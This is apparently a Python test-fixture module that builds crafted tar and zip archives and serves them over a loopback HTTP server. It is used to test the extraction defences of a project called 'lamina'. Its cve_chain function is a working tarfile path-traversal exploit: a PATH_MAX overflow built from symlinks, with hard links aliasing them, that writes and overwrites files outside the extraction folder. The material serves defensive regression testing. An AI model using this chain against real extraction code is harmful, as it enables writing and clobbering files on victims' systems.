"""Crafted archives and a loopback HTTP server for the archive/download attacks of issue 12."""

from __future__ import annotations

import hashlib
import io
import tarfile
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from _http import LoopbackServer, serve

__all__ = ["Member", "Served", "cve_chain", "serve", "snapshot", "tar_bytes", "zip_bytes"]


@dataclass(frozen=True)
class Member:
    """One tar member: kind is 'file', 'dir', 'sym', 'hard' or 'fifo'."""

    name: str
    kind: str = "file"
    target: str = ""
    data: bytes = b""


_TYPES = {
    "file": tarfile.REGTYPE,
    "dir": tarfile.DIRTYPE,
    "sym": tarfile.SYMTYPE,
    "hard": tarfile.LNKTYPE,
    "fifo": tarfile.FIFOTYPE,
}


def tar_bytes(members: Sequence[Member], mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as tf:  # type: ignore[call-overload]
        for m in members:
            info = tarfile.TarInfo(m.name)
            info.type = _TYPES[m.kind]
            info.linkname = m.target
            info.size = len(m.data) if m.kind == "file" else 0
            tf.addfile(info, io.BytesIO(m.data) if m.kind == "file" else None)
    return buf.getvalue()


def zip_bytes(files: Sequence[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in files:
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def cve_chain(escape_to: str, payload: str = "pwned.txt") -> list[Member]:
    """The CVE-2025-4517 family with hard links aliasing symlinks, as the attacker used it on 3.11.7.

    Sixteen 247-character folders reached through one-letter symlinks make the physical path longer than
    PATH_MAX, so tarfile's data filter (realpath gives up and reads the rest lexically) sees `escape` as
    inside; each step is written through a hard link ('A' -> 'a'), which lamina's old "written through a
    symlink" check did not look at. `escape_to` is resolved from the folder being extracted into
    (e.g. '../../victim'); it may climb at most 17 levels.
    """
    comp, steps = "d" * 247, "abcdefghijklmnop"
    members: list[Member] = []
    prefix = ""
    for ch in steps:
        members += [
            Member(prefix + comp, "dir"),
            Member(prefix + ch, "sym", comp),
            Member(prefix + ch.upper(), "hard", prefix + ch),
        ]
        prefix += ch.upper() + "/"
    linkpath = prefix + "l" * 254  # physically inside the 16th folder; points back up to the destination
    members.append(Member(linkpath, "sym", "../" * len(steps)))
    members.append(Member("escape", "sym", f"{linkpath}/{escape_to}"))
    members.append(Member("Escape", "hard", "escape"))
    members.append(Member(f"Escape/{payload}", "file", data=b"pwned"))
    members.append(Member("Escape/existing.txt", "file", data=b"overwritten"))
    return members


def snapshot(root: Path, skip: Path | None = None) -> dict[str, tuple[str, bytes]]:
    """Every entry under `root` (not following links, leaving out `skip`): its kind and content digest."""
    out: dict[str, tuple[str, bytes]] = {}
    for p in sorted(root.rglob("*")):
        if skip is not None and (p == skip or skip in p.parents):
            continue
        rel = p.relative_to(root).as_posix()
        if p.is_symlink():
            out[rel] = ("link", str(p.readlink()).encode())
        elif p.is_dir():
            out[rel] = ("dir", b"")
        else:
            out[rel] = ("file", hashlib.sha256(p.read_bytes()).digest())
    return out


Served = LoopbackServer  # the tests' loopback HTTP server (tests/_http.py): stalls, counts requests
